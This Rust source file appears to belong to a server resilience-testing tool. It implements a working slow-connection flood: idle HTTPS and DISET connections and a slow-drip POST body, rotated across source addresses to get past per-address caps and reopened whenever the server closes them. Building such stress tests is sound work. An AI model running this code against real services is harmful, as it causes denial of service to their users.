//! The attack, run in child processes of the flood tool (`tokenmanager-flood __attack-worker`):
//! connections without credentials, each bound to a source address of a range (round-robin, so
//! that a per-address cap alone cannot stop them), with `SO_LINGER 0` (a close is a reset, and
//! leaves no TIME_WAIT here), held open: a connection the server closes is opened again at once.
//!
//! * idle HTTPS / idle DISET: TCP connected, nothing sent (no ClientHello);
//! * slow-body: TLS without a client certificate, `POST <path>` with `Content-Length: 100000`,
//!   then one body byte per `--drip-interval`.
//!
//! The worker prints its counters as one JSON line ([`WorkerStatus`]) every 250 ms, the first
//! with `ready` once every connection was tried once, and a last one (`final`) when its standard
//! input closes, which is the release: it then exits, and the kernel resets every connection.

use std::cell::{Cell, RefCell};
use std::io::{self, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::rc::Rc;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use socket2::{Domain, Protocol, Socket, Type};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::LocalSet;

use super::outcome::{Attack, AttackCounters};
use super::probe::{parse_sources, raise_nofile_limit};
use crate::connect::{Connector, Stream, TlsOptions, Trust};
use crate::parse_duration;

/// The first argument that makes the binary an attack worker.
pub const WORKER_ARG: &str = "__attack-worker";

/// Descriptors a worker keeps for itself beyond its sockets.
const WORKER_SPARE_FDS: u64 = 64;
/// Pause before trying again after a failed open (not after a server close: that is at once).
const RETRY_PAUSE: Duration = Duration::from_millis(250);
const STATUS_EVERY: Duration = Duration::from_millis(250);

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    IdleHttps,
    IdleDips,
    SlowBody,
}

/// The worker's command line (internal: the coordinator builds it, see [`WorkerArgs::to_args`]).
#[derive(Debug, Clone, clap::Parser)]
#[command(name = "tokenmanager-flood __attack-worker")]
pub struct WorkerArgs {
    #[arg(long)]
    pub host: Ipv4Addr,
    #[arg(long)]
    pub https_port: u16,
    #[arg(long)]
    pub dips_port: u16,
    #[arg(long, default_value_t = 0)]
    pub idle_https: usize,
    #[arg(long, default_value_t = 0)]
    pub idle_dips: usize,
    #[arg(long, default_value_t = 0)]
    pub slow_body: usize,
    /// Source addresses, `A.B.C.D-E.F.G.H`.
    #[arg(long)]
    pub sources: String,
    /// The worker's first slot number: slot `i` binds to source `(first_slot + i) % count`.
    #[arg(long, default_value_t = 0)]
    pub first_slot: usize,
    #[arg(long, value_parser = parse_duration)]
    pub connect_timeout: Duration,
    #[arg(long, value_parser = parse_duration)]
    pub reopen_delay: Duration,
    #[arg(long, value_parser = parse_duration)]
    pub drip_interval: Duration,
    #[arg(long)]
    pub path: String,
    #[arg(long)]
    pub content_length: usize,
}

impl WorkerArgs {
    pub fn total(&self) -> usize {
        self.idle_https + self.idle_dips + self.slow_body
    }

    /// The arguments after `__attack-worker` that parse back to `self`.
    pub fn to_args(&self) -> Vec<String> {
        let secs = |d: Duration| format!("{}ms", d.as_millis());
        [
            ("--host", self.host.to_string()),
            ("--https-port", self.https_port.to_string()),
            ("--dips-port", self.dips_port.to_string()),
            ("--idle-https", self.idle_https.to_string()),
            ("--idle-dips", self.idle_dips.to_string()),
            ("--slow-body", self.slow_body.to_string()),
            ("--sources", self.sources.clone()),
            ("--first-slot", self.first_slot.to_string()),
            ("--connect-timeout", secs(self.connect_timeout)),
            ("--reopen-delay", secs(self.reopen_delay)),
            ("--drip-interval", secs(self.drip_interval)),
            ("--path", self.path.clone()),
            ("--content-length", self.content_length.to_string()),
        ]
        .into_iter()
        .flat_map(|(flag, value)| [flag.to_owned(), value])
        .collect()
    }
}

/// One line of a worker's standard output.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
pub struct WorkerStatus {
    /// Every connection was tried once.
    pub ready: bool,
    /// The last line: the counters at the release.
    #[serde(rename = "final")]
    pub last: bool,
    pub attack: Attack,
}

struct Ctx {
    args: WorkerArgs,
    https: SocketAddr,
    dips: SocketAddr,
    tls: Connector,
    /// The slow-body request head.
    head: Vec<u8>,
    counters: RefCell<Attack>,
    /// Slots that made their first attempt.
    tried: Cell<usize>,
}

impl Ctx {
    fn count(&self, kind: Kind, f: impl FnOnce(&mut AttackCounters)) {
        let mut attack = self.counters.borrow_mut();
        f(match kind {
            Kind::IdleHttps => &mut attack.idle_https,
            Kind::IdleDips => &mut attack.idle_dips,
            Kind::SlowBody => &mut attack.slow_body,
        })
    }
}

enum OpenError {
    Connect,
    Handshake,
}

/// A TCP connection from `source` with `SO_LINGER 0`.
async fn connect_from(source: Ipv4Addr, dest: SocketAddr) -> io::Result<TcpStream> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP))?;
    socket.set_linger(Some(Duration::ZERO))?;
    socket.set_nonblocking(true)?;
    socket.bind(&SocketAddr::new(IpAddr::V4(source), 0).into())?;
    TcpSocket::from_std_stream(socket.into())
        .connect(dest)
        .await
}

async fn open(kind: Kind, source: Ipv4Addr, ctx: &Ctx) -> Result<Stream, OpenError> {
    let limit = ctx.args.connect_timeout;
    let dest = if kind == Kind::IdleDips {
        ctx.dips
    } else {
        ctx.https
    };
    let tcp = match tokio::time::timeout(limit, connect_from(source, dest)).await {
        Ok(Ok(tcp)) => tcp,
        _ => return Err(OpenError::Connect),
    };
    if kind != Kind::SlowBody {
        return Ok(Stream::Plain(tcp));
    }
    let started = async {
        let (mut stream, _) = ctx.tls.handshake(tcp).await.ok()?;
        stream.write_all(&ctx.head).await.ok()?;
        stream.flush().await.ok()?;
        Some(stream)
    };
    match tokio::time::timeout(limit, started).await {
        Ok(Some(stream)) => Ok(stream),
        _ => Err(OpenError::Handshake),
    }
}

/// Holds `stream` until the server closes it (dripping the body for slow-body); whether the
/// server sent anything on it.
async fn hold(kind: Kind, mut stream: Stream, ctx: &Ctx) -> bool {
    let mut buf = [0u8; 1024];
    let mut replied = false;
    let mut left = if kind == Kind::SlowBody {
        ctx.args.content_length
    } else {
        0
    };
    let mut next_drip = Instant::now() + ctx.args.drip_interval;
    loop {
        let read = if left > 0 {
            match tokio::time::timeout_at(next_drip.into(), stream.read(&mut buf)).await {
                Ok(read) => read,
                Err(_) => {
                    if stream.write_all(b"a").await.is_err() || stream.flush().await.is_err() {
                        return replied;
                    }
                    ctx.count(kind, |c| c.body_bytes += 1);
                    left -= 1;
                    next_drip += ctx.args.drip_interval;
                    continue;
                }
            }
        } else {
            stream.read(&mut buf).await
        };
        match read {
            Ok(0) | Err(_) => return replied,
            Ok(_) => replied = true,
        }
    }
}

async fn hold_slot(kind: Kind, source: Ipv4Addr, ctx: Rc<Ctx>) {
    let mut first = true;
    let mut replacing = false;
    loop {
        let opened = open(kind, source, &ctx).await;
        if std::mem::take(&mut first) {
            ctx.tried.set(ctx.tried.get() + 1);
        }
        match opened {
            Ok(stream) => {
                ctx.count(kind, |c| {
                    c.opens += 1;
                    c.reopens += u64::from(replacing);
                    c.open += 1;
                    c.peak_open = c.peak_open.max(c.open);
                });
                let replied = hold(kind, stream, &ctx).await;
                ctx.count(kind, |c| {
                    c.open -= 1;
                    c.closed_by_server += 1;
                    c.server_replies += u64::from(replied);
                });
                replacing = true;
                if !ctx.args.reopen_delay.is_zero() {
                    tokio::time::sleep(ctx.args.reopen_delay).await;
                }
            }
            Err(e) => {
                ctx.count(kind, |c| match e {
                    OpenError::Connect => c.connect_errors += 1,
                    OpenError::Handshake => c.handshake_errors += 1,
                });
                tokio::time::sleep(RETRY_PAUSE).await;
            }
        }
    }
}

fn print_status(status: &WorkerStatus) -> io::Result<()> {
    let mut out = io::stdout().lock();
    serde_json::to_writer(&mut out, status)?;
    out.write_all(b"\n")?;
    out.flush()
}

/// The worker: holds its connections until its standard input closes.
pub fn worker_main(args: WorkerArgs) -> Result<(), String> {
    let sources = parse_sources(&args.sources)?;
    let total = args.total();
    let limit = raise_nofile_limit().map_err(|e| format!("cannot raise RLIMIT_NOFILE: {e}"))?;
    if total as u64 + WORKER_SPARE_FDS > limit {
        return Err(format!(
            "{total} attack sockets do not fit under this process's descriptor limit {limit} \
             ({WORKER_SPARE_FDS} kept spare): use more --attack-processes"
        ));
    }
    let https = SocketAddr::new(IpAddr::V4(args.host), args.https_port);
    let dips = SocketAddr::new(IpAddr::V4(args.host), args.dips_port);
    let tls = Connector::tls(
        TlsOptions {
            identity: None,
            trust: Trust::Insecure,
            resume: false,
        },
        &args.host.to_string(),
        vec![https],
    )
    .map_err(|e| e.to_string())?;
    let head = crate::http::request(
        "POST",
        &https.to_string(),
        &args.path,
        &[
            ("User-Agent", "tokenmanager-flood"),
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Content-Length", &args.content_length.to_string()),
        ],
        None,
    );

    // The release: standard input closes (the coordinator closed it, or died).
    let stop = Arc::new(AtomicBool::new(false));
    {
        let stop = Arc::clone(&stop);
        std::thread::spawn(move || {
            let mut sink = [0u8; 64];
            let mut stdin = io::stdin();
            while matches!(stdin.read(&mut sink), Ok(n) if n > 0) {}
            stop.store(true, Relaxed);
        });
    }

    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|e| format!("cannot start a runtime: {e}"))?;
    let kinds = [
        (Kind::IdleHttps, args.idle_https),
        (Kind::IdleDips, args.idle_dips),
        (Kind::SlowBody, args.slow_body),
    ];
    let first_slot = args.first_slot;
    let ctx = Rc::new(Ctx {
        args,
        https,
        dips,
        tls,
        head,
        counters: RefCell::new(Attack::default()),
        tried: Cell::new(0),
    });
    {
        let mut counters = ctx.counters.borrow_mut();
        counters.idle_https.requested = kinds[0].1 as u64;
        counters.idle_dips.requested = kinds[1].1 as u64;
        counters.slow_body.requested = kinds[2].1 as u64;
    }
    let local = LocalSet::new();
    local
        .block_on(&runtime, async {
            let mut slot = first_slot;
            for (kind, count) in kinds {
                for _ in 0..count {
                    let source = sources[slot % sources.len()];
                    tokio::task::spawn_local(hold_slot(kind, source, Rc::clone(&ctx)));
                    slot += 1;
                }
            }
            loop {
                tokio::time::sleep(STATUS_EVERY).await;
                let last = stop.load(Relaxed);
                print_status(&WorkerStatus {
                    ready: ctx.tried.get() >= total,
                    last,
                    attack: *ctx.counters.borrow(),
                })?;
                if last {
                    return Ok(());
                }
            }
        })
        .map_err(|e: io::Error| format!("cannot write to the coordinator: {e}"))
    // Returning drops the runtime's tasks: every socket closes, with a reset (SO_LINGER 0).
}
